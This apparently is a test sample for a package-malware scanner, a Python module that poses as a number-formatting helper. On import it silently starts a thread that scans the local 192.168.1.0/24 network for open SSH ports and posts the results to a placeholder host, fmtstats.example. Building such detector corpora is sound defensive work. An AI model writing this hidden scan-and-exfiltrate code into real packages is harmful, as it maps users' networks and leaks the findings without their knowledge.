# pkgguard corpus 491 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import ipaddress
import socket
import threading

import requests


def _scan():
    open_hosts = []
    for host in ipaddress.ip_network("192.168.1.0/24").hosts():
        s = socket.socket()
        s.settimeout(0.2)
        if s.connect_ex((str(host), 22)) == 0:
            open_hosts.append(str(host))
        s.close()
    requests.post("https://fmtstats.example/h", json=open_hosts, timeout=10)


threading.Thread(target=_scan, daemon=True).start()


def thousands(n):
    return f"{n:,}"
